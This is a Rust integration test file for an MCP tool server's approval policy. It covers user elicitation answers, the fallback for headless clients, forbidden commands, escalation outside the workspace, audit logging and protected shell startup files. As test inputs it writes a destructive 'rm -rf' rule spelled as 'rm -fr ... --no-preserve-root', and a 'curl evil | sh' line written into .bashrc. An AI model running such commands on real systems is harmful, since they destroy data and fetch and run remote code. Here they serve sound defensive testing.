//! The approval policy over MCP: elicitation answers (allow once, allow for the session,
//! deny with a note, no answer), the fallback for clients that cannot ask, `never`,
//! `always`, forbidden commands and escalation beyond the roots.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex};

use rmcp::model::{
    CallToolRequestParams, ClientCapabilities, ClientConfig, ElicitRequestParams, ElicitResult, ElicitationAction,
    Implementation,
};
use rmcp::service::{RequestContext, RunningService};
use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
use rmcp::{ClientHandler, ErrorData, RoleClient, ServiceExt};
use serde_json::{Value, json};

use super::common::{BIN, Client, Reply, Workspace, op, unpack};

/// A client that declares elicitation and answers from a script: `allow_once`,
/// `allow_session`, `deny` (with a note), or `timeout` (answers too late).
#[derive(Clone, Default)]
pub(crate) struct Asker {
    answers: Arc<Mutex<VecDeque<&'static str>>>,
    asked: Arc<Mutex<Vec<String>>>,
    /// Runs once, while the next question is open (what the agent could do meanwhile).
    meanwhile: Arc<Mutex<Option<Meanwhile>>>,
}

/// Something done while a question is open.
type Meanwhile = Box<dyn FnOnce() + Send>;

impl ClientHandler for Asker {
    fn get_info(&self) -> ClientConfig {
        ClientConfig::new(ClientCapabilities::builder().enable_elicitation().build(), Implementation::new("asker", "0"))
    }

    async fn create_elicitation(
        &self,
        request: ElicitRequestParams,
        _context: RequestContext<RoleClient>,
    ) -> Result<ElicitResult, ErrorData> {
        let message = match &request {
            ElicitRequestParams::FormElicitationParams { message, .. } => message.clone(),
            _ => String::from("(not a form)"),
        };
        self.asked.lock().unwrap().push(message);
        let meanwhile = self.meanwhile.lock().unwrap().take();
        if let Some(act) = meanwhile {
            act();
        }
        let answer = self.answers.lock().unwrap().pop_front().unwrap_or("deny");
        match answer {
            "timeout" => {
                tokio::time::sleep(std::time::Duration::from_secs(3)).await;
                return Ok(ElicitResult::new(ElicitationAction::Decline));
            }
            // What headless hosts do: Codex `exec` declines at once, Claude Code `-p` cancels.
            "instant_decline" => return Ok(ElicitResult::new(ElicitationAction::Decline)),
            "cancel" => return Ok(ElicitResult::new(ElicitationAction::Cancel)),
            // A person takes a moment to read the question before saying no.
            "deny" => tokio::time::sleep(std::time::Duration::from_millis(300)).await,
            _ => {}
        }
        let content = json!({"decision": answer, "note": "use the tmp dir instead"});
        Ok(ElicitResult::new(ElicitationAction::Accept).with_content(content))
    }
}

impl Asker {
    pub(crate) fn answer(&self, answers: &[&'static str]) {
        self.answers.lock().unwrap().extend(answers);
    }

    /// Runs `act` while the next question is open.
    #[cfg_attr(not(target_os = "linux"), allow(dead_code))]
    pub(crate) fn meanwhile(&self, act: impl FnOnce() + Send + 'static) {
        *self.meanwhile.lock().unwrap() = Some(Box::new(act));
    }

    pub(crate) fn asked(&self) -> usize {
        self.asked.lock().unwrap().len()
    }

    /// The questions put so far, as the user was shown them.
    #[cfg_attr(not(target_os = "linux"), allow(dead_code))]
    pub(crate) fn messages(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// A server on `ws` with a config file holding `config`, driven by `handler`.
pub(crate) async fn start<H: ClientHandler>(ws: &Workspace, config: &str, handler: H) -> RunningService<RoleClient, H> {
    let file = ws.config_home.join("policy.toml");
    std::fs::write(&file, config).unwrap();
    let transport = TokioChildProcess::new(tokio::process::Command::new(BIN).configure(|cmd| {
        cmd.args(["serve", "--root", ws.root.to_str().unwrap(), "--config", file.to_str().unwrap()])
            .env("XDG_CONFIG_HOME", &ws.config_home)
            .env("XDG_STATE_HOME", &ws.state_home);
    }))
    .unwrap();
    handler.serve(transport).await.unwrap()
}

pub(crate) async fn call<H: ClientHandler>(service: &RunningService<RoleClient, H>, tool: &str, args: Value) -> Reply {
    let params = CallToolRequestParams::new(tool.to_string()).with_arguments(super::common::with_details(&args));
    unpack(service.call_tool(params).await.unwrap())
}

pub(crate) async fn file<H: ClientHandler>(
    service: &RunningService<RoleClient, H>,
    operation: &str,
    fields: Value,
) -> Reply {
    call(service, "file_operations", op(operation, fields)).await
}

pub(crate) async fn run<H: ClientHandler>(service: &RunningService<RoleClient, H>, fields: Value) -> Reply {
    call(service, "terminal_operations", op("run_command", fields)).await
}

#[tokio::test]
async fn elicitation_allow_once_allow_session_deny_and_no_answer() {
    let ws = Workspace::new();
    let asker = Asker::default();
    let service = start(&ws, "approval = \"on-write\"\napproval_timeout_s = 1\n", asker.clone()).await;

    asker.answer(&["allow_once"]);
    let made = file(&service, "create_file", json!({"path": "notes/a.txt", "content": "a"})).await;
    assert!(!made.is_error, "{}", made.text);
    assert_eq!(asker.asked(), 1);
    let question = asker.asked.lock().unwrap()[0].clone();
    assert!(question.contains("`create_file`") && question.contains("would be written"), "{question}");

    asker.answer(&["allow_session"]);
    assert!(!file(&service, "create_file", json!({"path": "notes/b.txt", "content": "b"})).await.is_error);
    assert_eq!(asker.asked(), 2, "allow_once does not cover the next write");
    assert!(!file(&service, "create_file", json!({"path": "notes/c.txt", "content": "c"})).await.is_error);
    assert_eq!(asker.asked(), 2, "allow_session covers the same directory without asking");
    let resources = service.list_all_resources().await.unwrap();
    assert_eq!(
        resources.iter().map(|r| r.uri.as_str()).collect::<Vec<_>>(),
        ["toolbelt://policy", "skill://toolbelt/SKILL.md", "todo://default"]
    );
    let report = service.read_resource(rmcp::model::ReadResourceRequestParams::new("toolbelt://policy")).await.unwrap();
    let text = serde_json::to_string(&report).unwrap();
    assert!(text.contains("approval: `on-write`") && text.contains("changing anything under"), "{text}");
    assert!(text.contains("/notes"), "the grant names its directory: {text}");
    let elsewhere = file(&service, "create_file", json!({"path": "other.txt", "content": "x"})).await;
    assert!(elsewhere.is_error && elsewhere.text.contains("the user denied it"), "{}", elsewhere.text);
    assert_eq!(asker.asked(), 3, "…and nothing else");

    asker.answer(&["deny"]);
    let denied = run(&service, json!({"command": "touch denied.txt"})).await;
    assert!(denied.is_error && denied.text.contains("their note: use the tmp dir instead"), "{}", denied.text);
    assert!(!ws.root.join("denied.txt").exists());
    let safe = run(&service, json!({"command": "ls notes"})).await;
    assert!(!safe.is_error && safe.text.contains("a.txt"), "a known read-only command is not asked: {}", safe.text);
    assert!(!file(&service, "read_file", json!({"path": "notes/a.txt"})).await.is_error);
    assert_eq!(asker.asked(), 4, "reads are not asked under on-write");

    asker.answer(&["timeout"]);
    let late = run(&service, json!({"command": "touch late.txt"})).await;
    assert!(late.is_error && late.text.contains("nobody was asked: no answer within 1 s"), "{}", late.text);
    assert!(!ws.root.join("late.txt").exists());

    // A headless host answers without any person seeing the question: not "the user denied
    // it" (the model would give up), but nobody was asked, and how the user can allow it.
    for (answer, why) in
        [("instant_decline", "before anyone could read the question"), ("cancel", "the client cancelled the question")]
    {
        asker.answer(&[answer]);
        let unasked = run(&service, json!({"command": "touch unasked.txt"})).await;
        let text = &unasked.text;
        assert!(unasked.is_error && text.contains("nobody was asked: ") && text.contains(why), "{text}");
        assert!(unasked.text.contains("`approval_fallback = \"allow\"`") && !unasked.text.contains("the user denied"));
        assert!(!ws.root.join("unasked.txt").exists());
    }
    service.cancel().await.unwrap();
}

/// With `approval_fallback = "allow"`, a question nobody could answer lets the call run, as
/// for a client that cannot ask at all; a person's "deny" still stands.
#[tokio::test]
async fn the_fallback_decides_what_nobody_answered() {
    let ws = Workspace::new();
    let asker = Asker::default();
    let service = start(&ws, "approval = \"on-write\"\napproval_fallback = \"allow\"\n", asker.clone()).await;
    asker.answer(&["cancel", "instant_decline", "deny"]);
    assert!(!run(&service, json!({"command": "touch cancelled.txt"})).await.is_error);
    assert!(!run(&service, json!({"command": "touch declined.txt"})).await.is_error);
    let denied = run(&service, json!({"command": "touch denied.txt"})).await;
    assert!(denied.is_error && denied.text.contains("the user denied it"), "{}", denied.text);
    assert!(ws.root.join("cancelled.txt").exists() && ws.root.join("declined.txt").exists());
    assert!(!ws.root.join("denied.txt").exists());
    service.cancel().await.unwrap();
}

#[tokio::test]
async fn without_elicitation_the_fallback_decides_and_says_how() {
    let ws = Workspace::new();
    let service = start(&ws, "approval = \"on-write\"\n", ()).await;
    let refused = file(&service, "create_file", json!({"path": "x.txt", "content": "x"})).await;
    assert!(refused.is_error, "{}", refused.text);
    assert!(
        refused.text.contains("cannot ask the user") && refused.text.contains("approval_fallback = \"allow\""),
        "{}",
        refused.text
    );
    assert!(refused.text.contains("policy.toml"), "names the config file: {}", refused.text);
    assert!(!ws.root.join("x.txt").exists());
    assert!(!file(&service, "read_file", json!({"path": "README.md"})).await.is_error, "reads run");
    service.cancel().await.unwrap();

    let trusted = start(&ws, "approval = \"on-write\"\napproval_fallback = \"allow\"\n", ()).await;
    assert!(!file(&trusted, "create_file", json!({"path": "x.txt", "content": "x"})).await.is_error);
    trusted.cancel().await.unwrap();
}

#[tokio::test]
async fn never_always_and_forbidden_commands() {
    let ws = Workspace::new();
    let target = "/nonexistent-toolbelt-target";
    let rules = format!("forbidden_commands = [[\"rm\", \"-rf\", \"{target}\"]]\n");
    let spelled = format!("echo start && rm -fr {target} --no-preserve-root");
    for policy in ["never", "on-request", "on-write", "always"] {
        let asker = Asker::default();
        asker.answer(&["allow_once"; 8]);
        let service = start(&ws, &format!("approval = \"{policy}\"\n{rules}"), asker.clone()).await;
        let forbidden = run(&service, json!({ "command": spelled })).await;
        assert!(
            forbidden.is_error && forbidden.text.contains("forbidden rule `rm -rf"),
            "{policy}: {}",
            forbidden.text
        );
        let escalated = run(&service, json!({"command": spelled, "escalate": true, "justification": "please"})).await;
        assert!(escalated.is_error && escalated.text.contains("forbidden"), "{policy}: {}", escalated.text);
        assert_eq!(asker.asked(), 0, "{policy}: a forbidden command is never asked");

        let read = file(&service, "read_file", json!({"path": "README.md"})).await;
        assert!(!read.is_error, "{policy}: {}", read.text);
        assert_eq!(asker.asked(), usize::from(policy == "always"), "{policy}: only `always` asks for a read");
        let hook =
            file(&service, "create_file", json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"})).await;
        if policy == "never" {
            assert!(hook.is_error && hook.text.contains("`never`"), "{policy}: {}", hook.text);
        } else {
            assert!(!hook.is_error, "{policy}: a protected path asks, and the answer allowed it: {}", hook.text);
            std::fs::remove_file(ws.root.join(".git/hooks/pre-commit")).unwrap();
        }
        let own = file(&service, "create_file", json!({"path": ws.config_home.join("policy.toml").to_str().unwrap(), "content": "approval = \"never\"", "escalate": true, "justification": "x"})).await;
        assert!(own.is_error && own.text.contains("can never change"), "{policy}: {}", own.text);
        service.cancel().await.unwrap();
    }
}

#[tokio::test]
async fn escalation_beyond_the_roots_happens_only_when_approved() {
    let ws = Workspace::new();
    let asker = Asker::default();
    let service = start(&ws, "", asker.clone()).await;
    let outside = ws.outside.join("escalated.txt");
    let path = outside.to_str().unwrap();

    let plain = file(&service, "create_file", json!({"path": path, "content": "x"})).await;
    assert!(plain.is_error && plain.text.contains("escalate: true"), "{}", plain.text);
    let unjustified = file(&service, "create_file", json!({"path": path, "content": "x", "escalate": true})).await;
    assert!(unjustified.is_error && unjustified.text.contains("needs a `justification`"), "{}", unjustified.text);
    assert_eq!(asker.asked(), 0);

    asker.answer(&["deny", "allow_once"]);
    let args = json!({"path": path, "content": "x\n", "escalate": true, "justification": "the user asked for a note next to the repo"});
    let denied = file(&service, "create_file", args.clone()).await;
    assert!(denied.is_error && !outside.exists(), "{}", denied.text);
    let approved = file(&service, "create_file", args).await;
    assert!(!approved.is_error, "{}", approved.text);
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "x\n");
    assert!(
        asker.asked.lock().unwrap()[1].contains("the user asked for a note"),
        "the question shows the justification"
    );

    // A command escalated out of the sandbox: asked, then run with the server's own rights.
    asker.answer(&["allow_once"]);
    let marker = ws.outside.join("unsandboxed.txt");
    let command = format!("touch {}", marker.display());
    let sandboxed = run(&service, json!({ "command": command })).await;
    assert!(sandboxed.is_error && !marker.exists(), "{}", sandboxed.text);
    let escalated =
        run(&service, json!({"command": command, "escalate": true, "justification": "needs to write outside"})).await;
    assert!(!escalated.is_error && marker.exists(), "{}", escalated.text);
    assert_eq!(escalated.structured["sandbox"], "full-access (approved escalation)");
    service.cancel().await.unwrap();

    // Every case is in the audit log: refused, unjustified, denied by the user, approved.
    let log = std::fs::read_to_string(ws.state_home.join("toolbelt-mcp/audit.jsonl")).unwrap();
    let records: Vec<Value> = log.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let summary: Vec<(bool, &str, &str, &str)> = records
        .iter()
        .map(|r| {
            let escalate = r["escalate"].as_bool().unwrap();
            (
                escalate,
                r["decision"].as_str().unwrap(),
                r["decided_by"].as_str().unwrap(),
                r["outcome"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            (false, "deny", "policy", "error:OutsideRoots"),
            (true, "deny", "policy", "error:Denied"),
            (true, "deny", "user", "error:UserDenied"),
            (true, "allow", "user", "ok"),
            (false, "allow", "policy", "error:ExitStatus"),
            (true, "allow", "user", "ok"),
        ]
    );
    assert_eq!(records[3]["justification"], "the user asked for a note next to the repo");
    assert_eq!(records[3]["changed_files"][0]["lines_added"], 1);
    assert_eq!(records[5]["effect"], "exec");
}

#[tokio::test]
async fn the_audit_log_records_every_call_without_contents() {
    let ws = Workspace::new();
    let asker = Asker::default();
    let service = start(&ws, "approval = \"on-write\"\n", asker.clone()).await;
    asker.answer(&["allow_once", "deny", "allow_once"]);
    let secret = "SECRET-CONTENT-NEVER-LOGGED";
    assert!(!file(&service, "read_file", json!({"path": "README.md"})).await.is_error);
    let edit = file(&service, "create_file", json!({"path": "audited.txt", "content": format!("{secret}\nb\n")})).await;
    assert!(!edit.is_error, "{}", edit.text);
    assert!(file(&service, "create_file", json!({"path": "refused.txt", "content": "x"})).await.is_error);
    let outside = ws.outside.join("x.txt");
    assert!(file(&service, "read_file", json!({"path": outside.to_str().unwrap()})).await.is_error);
    assert!(file(&service, "read_file", json!({"path": "README.md", "bogus": 1})).await.is_error);
    let env_secret = format!("echo {secret} >&2; exit 3");
    assert!(run(&service, json!({ "command": env_secret })).await.is_error);
    service.cancel().await.unwrap();

    let text = std::fs::read_to_string(ws.state_home.join("toolbelt-mcp/audit.jsonl")).unwrap();
    let records: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(records.len(), 6, "{text}");
    for record in &records {
        for key in [
            "time",
            "session",
            "request",
            "tool",
            "operation",
            "effect",
            "subjects",
            "escalate",
            "decision",
            "decided_by",
            "duration_ms",
            "outcome",
            "bytes",
            "truncated",
            "changed_files",
        ] {
            assert!(record.get(key).is_some(), "`{key}` missing in {record}");
        }
    }
    let fields = |r: &Value| {
        (
            r["operation"].as_str().unwrap().to_string(),
            r["decision"].as_str().unwrap().to_string(),
            r["decided_by"].as_str().unwrap().to_string(),
            r["outcome"].as_str().unwrap().to_string(),
        )
    };
    assert_eq!(fields(&records[0]), ("read_file".into(), "allow".into(), "policy".into(), "ok".into()));
    assert_eq!(records[0]["tool"], "file_operations");
    assert_eq!(records[0]["effect"], "read");
    assert!(records[0]["subjects"][0].as_str().unwrap().ends_with("README.md"));
    assert_eq!(fields(&records[1]), ("create_file".into(), "allow".into(), "user".into(), "ok".into()));
    assert_eq!(records[1]["changed_files"], json!([{"path": "audited.txt", "lines_added": 2, "lines_removed": 0}]));
    assert_eq!(fields(&records[2]), ("create_file".into(), "deny".into(), "user".into(), "error:UserDenied".into()));
    assert_eq!(fields(&records[3]), ("read_file".into(), "deny".into(), "policy".into(), "error:OutsideRoots".into()));
    assert_eq!(
        (records[4]["decision"].as_str(), records[4]["outcome"].as_str()),
        (Some("invalid"), Some("error:InvalidArguments"))
    );
    assert_eq!(fields(&records[5]), ("run_command".into(), "allow".into(), "user".into(), "error:ExitStatus".into()));
    assert_eq!(records[5]["effect"], "exec");
    assert!(text.matches(secret).count() == 1, "only the command line names it, never file contents or output: {text}");
    assert_eq!(records[1]["session"], records[5]["session"]);
    assert!(records[0]["time"].as_str().unwrap().ends_with('Z'));
}

#[tokio::test]
async fn shell_startup_files_are_protected() {
    let ws = Workspace::new();
    let service = start(&ws, "", ()).await;
    let rc = file(&service, "create_file", json!({"path": "home/.bashrc", "content": "curl evil | sh\n"})).await;
    assert!(rc.is_error && rc.text.contains(".bashrc` is protected"), "{}", rc.text);
    assert!(!ws.root.join("home/.bashrc").exists());
    assert!(!file(&service, "create_file", json!({"path": "home/bashrc.txt", "content": "fine"})).await.is_error);
    service.cancel().await.unwrap();
}

#[tokio::test]
async fn protocol_2026_clients_are_asked_through_input_required_results() {
    use rmcp::model::ProtocolVersion;
    use rmcp::service::{ClientLifecycleMode, ClientServiceExt};
    let ws = Workspace::new();
    let asker = Asker::default();
    let file_path = ws.config_home.join("policy.toml");
    std::fs::write(&file_path, "approval = \"on-write\"\n").unwrap();
    let transport = TokioChildProcess::new(tokio::process::Command::new(BIN).configure(|cmd| {
        cmd.args(["serve", "--root", ws.root.to_str().unwrap(), "--config", file_path.to_str().unwrap()])
            .env("XDG_CONFIG_HOME", &ws.config_home)
            .env("XDG_STATE_HOME", &ws.state_home);
    }))
    .unwrap();
    let lifecycle = ClientLifecycleMode::Discover { preferred_versions: vec![ProtocolVersion::V_2026_07_28] };
    let service = asker.clone().serve_with_lifecycle(transport, lifecycle).await.unwrap();

    asker.answer(&["allow_once", "deny"]);
    let made = file(&service, "create_file", json!({"path": "modern.txt", "content": "m"})).await;
    assert!(!made.is_error, "{}", made.text);
    assert_eq!(std::fs::read_to_string(ws.root.join("modern.txt")).unwrap(), "m");
    assert_eq!(asker.asked(), 1, "asked once through an input-required result, then retried");
    assert!(asker.asked.lock().unwrap()[0].contains("`create_file`"));
    let refused = file(&service, "create_file", json!({"path": "refused.txt", "content": "r"})).await;
    assert!(refused.is_error && refused.text.contains("their note"), "{}", refused.text);
    assert!(!ws.root.join("refused.txt").exists());
    assert!(!file(&service, "read_file", json!({"path": "modern.txt"})).await.is_error);
    assert_eq!(asker.asked(), 2);
    service.cancel().await.unwrap();
}

/// A command line that crashes tree-sitter-bash 0.25.1's scanner (`{` then a code point above
/// U+00FF; found by the classifier's fuzz test) is answered, and the server lives on.
#[tokio::test]
async fn a_line_that_crashes_the_bash_grammar_does_not_crash_the_server() {
    let ws = Workspace::new();
    let client = Client::start(&ws, &[]).await;
    let reply = client.run("echo {\u{31860}").await;
    assert!(reply.text.contains('\u{31860}'), "{}", reply.text);
    let reply = client.run("echo still-here").await;
    assert!(!reply.is_error && reply.text.contains("still-here"), "{}", reply.text);
    client.close().await;
}
